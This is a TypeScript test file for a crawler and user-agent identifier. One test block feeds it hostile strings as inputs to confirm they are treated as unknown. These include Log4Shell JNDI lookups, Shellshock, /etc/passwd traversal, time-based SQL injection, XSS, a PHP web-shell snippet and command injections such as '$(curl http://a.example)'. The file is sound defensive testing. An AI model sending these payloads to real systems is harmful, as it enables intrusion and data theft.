import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { formOf, isAttack, withoutDeviceModel } from './browser-form.js';
import { loadCrawlerTable } from './load-table.js';
import { createCrawlerIdentifier, UNKNOWN_CLIENT } from './table.js';

const identify = createCrawlerIdentifier(loadCrawlerTable());
const webkit = 'AppleWebKit/537.36 (KHTML, like Gecko)';
const windows = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)';

describe('an unknown client', () => {
  test.each([
    windows,
    `${windows} AppleWebKit/537.36`,
    `${windows} ${webkit}`,
    `${windows} ${webkit} Chrome`,
    `${windows} ${webkit} Chrome/W.X.Y.Z Safari/537.36`,
    'Mozilla/5.0 (Windows NT 10.0; Win64',
    'Mozilla/5.0 (X11; Linux x86_64)',
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7)',
    `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${webkit}`,
    'Mozilla/5.0 (Linux; Android 10; K)',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X)',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15',
    'Mozilla/5.0 (X11; Linux x86_64; rv:Camoufox 140.0) Gecko/20100101 Firefox/Camoufox 140.0',
    'Mozilla/5.0',
    'Mozilla/4.0 (Windows)',
    '-1',
    '*',
    '#{7*7}',
    '; ls -la',
    `"${windows}"`,
    'Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:143.0) Gecko/20100101',
    'Mozilla/5.0 (Android 15; Mobile; rv:143.0) Gecko/143.0',
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1.15',
    `${windows} ${webkit} Safari/537.36`,
    `User-Agent: ${windows} ${webkit} Chrome/120.0.0.0 Safari/537.36`,
  ])('begins like a browser, but names none: %s', (userAgent) =>
    expect(identify(userAgent)).toMatchObject({
      name: UNKNOWN_CLIENT,
      category: 'other',
      operator: '',
      method: 'none',
    }),
  );

  test.each([
    '\u0024{jndi:ldap://a.example/x}',
    '\u0024{\u0024{lower:j}ndi:ldap://a.example/x}',
    `${windows} ${webkit} Chrome/141.0.0.0 Safari/537.36 \u0024{jndi:dns://a.example}`,
    '() { :; }; echo x',
    '../../../etc/passwd',
    '..%2f..%2f..%2fetc%2fpasswd',
    '/etc/passwd',
    "1' OR '1'='1",
    "Mozilla/5.0' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- ",
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    '<?php system($_GET[0]); ?>',
    '{{7*7}}',
    '\u0024(curl http://a.example)',
    'sleep(5)#',
    'pg_sleep(5)',
    'benchmark(10000000,MD5(1))',
    'if(now()=sysdate(),sleep(15),0)',
    "0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z",
    '(select(0)from(select(sleep(15)))v)',
    `${windows} ${webkit} Chrome/120.0.0.0 Safari/537.36 javascript:alert(1)`,
    'SELECT * FROM users',
    'user[\u0024ne]=1',
    'jndi:ldap://a.example/x',
    '| whoami',
    '<svg/onload=alert(1)>',
  ])('sends the text of an attack: %s', (userAgent) =>
    expect(identify(userAgent)?.name).toBe(UNKNOWN_CLIENT),
  );

  test.each([
    'null',
    'undefined',
    '(null)',
    'NaN',
    'None',
    'N/A',
    'unknown',
    'test',
    '0',
    '1.0',
    '[object Object]',
    '[object Undefined]',
    'undefined/undefined',
    'User-Agent',
    '%{User-Agent}i',
    '%{HTTP_USER_AGENT}',
    '\u0024http_user_agent',
    '{{user_agent}}',
    '<user_agent>',
    "headers['User-Agent']",
    'your-user-agent',
  ])('sends a text instead of a user agent: %s', (userAgent) =>
    expect(identify(userAgent)?.name).toBe(UNKNOWN_CLIENT),
  );

  test.each(['', '-', ' ', '\t', '""', '"-"', "''"])('differs from a missing user agent: %j', (userAgent) =>
    expect(identify(userAgent)?.name).toBe('No user agent'),
  );

  test.each([
    // A web view of macOS, a television, a console and apps that name no browser.
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 15_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Keepsafe Browser',
    'Mozilla/5.0 (PLAYSTATION 3; 3.55)',
    'Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko',
    'Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.7.8) Gecko/20050511',
    'MyShop/5.2.1 (iPhone; iOS 17.4; Scale/3.00)',
    // Safari 2 sends no version.
    'Mozilla/5.0 (Macintosh; U; PPC Mac OS X; en) AppleWebKit/418.8 (KHTML, like Gecko) Safari/419.3',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (Windows NT 5.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.112 Safari/537.36',
  ])('is no client with a browser or a device: %s', (userAgent) => expect(identify(userAgent)).toBeNull());
});

describe('copying artefacts around a user agent', () => {
  const chrome = `${windows} ${webkit} Chrome/141.0.0.0 Safari/537.36`;

  test.each([
    ` ${chrome}`,
    `\t${chrome}`,
    `${chrome}  `,
    `"${chrome}"`,
    `'${chrome}'`,
    `"${chrome}`,
    `' ${chrome} '`,
  ])('do not make a person a bot: %j', (userAgent) => expect(identify(userAgent)).toBeNull());

  test.each([' GPTBot/1.2', '"GPTBot/1.2"', "'Mozilla/5.0 (compatible; GPTBot/1.2)"])(
    'do not change the crawler: %j',
    (userAgent) => expect(identify(userAgent)?.name).toBe('GPTBot'),
  );
});

/**
 * HTTP clients of apps, not browsers, according to device-detector's libraries, omrilotan/isbot#238 and
 * matomo-org/device-detector#5377.
 */
describe('an app without a browser', () => {
  test.each([
    ['MyShop/5 CFNetwork/1568.200.51 Darwin/24.1.0', 'CFNetwork'],
    ['NetworkingExtension/8618.1.15.10.15 CFNetwork/1490.0.4 Darwin/23.0.0', 'CFNetwork'],
    ['NetworkingExtension/8621.3.11.10.3 Network/4277.145.3 iOS/18.6', 'CFNetwork'],
    ['com.apple.WebKit.Networking/8618.1.15.10.15 CFNetwork/1490 Darwin/23.0', 'CFNetwork'],
    ['MobileSafari/604.1 CFNetwork/1121.2.2 Darwin/19.3.0', 'CFNetwork'],
    ['SpringBoard/50 CFNetwork/1209 Darwin/20.2.0', 'CFNetwork'],
    ['MyShop/1.0 (com.acme.shop; build:1; iOS 17.0.0) Alamofire/5.4.3', 'Alamofire'],
    ['MyShop/5.2 okhttp/4.9', 'okhttp'],
    ['Dart/3.1 (dart:io)', 'Dart'],
  ])('%s is classified as its tool', (userAgent, name) =>
    expect(identify(userAgent)).toMatchObject({ name, category: 'tool' }),
  );
});

test('the form of any text is found quickly', () => {
  const part = fc.constantFrom(
    'Mozilla/5.0 (',
    'Android 10; ',
    'AppleWebKit/',
    '@a-',
    '.a',
    '(a.',
    ') ',
    ';',
    'Build/x',
    ' ',
    '..',
  );
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.array(part, { maxLength: 60 }).map((all) => all.join('')),
      ),
      (text) => {
        expect(typeof isAttack(text)).toBe('boolean');
        expect(['browser', 'half', 'other']).toContain(formOf(withoutDeviceModel(text)));
      },
    ),
  );
});

test.each([
  '@a-',
  '(a.',
  'Android 1; ',
  'a.aa/',
  '<!',
  ') Macintosh;',
  '(Macintosh;',
  'Gecko/1.1',
  ' 1',
  'a(',
])('a long repetition of %j takes linear time', (piece) => {
  const text = `Mozilla/5.0 AppleWebKit/605 ${piece.repeat(20_000)}`;
  const began = performance.now();
  identify(text);
  expect(performance.now() - began).toBeLessThan(1_000);
});
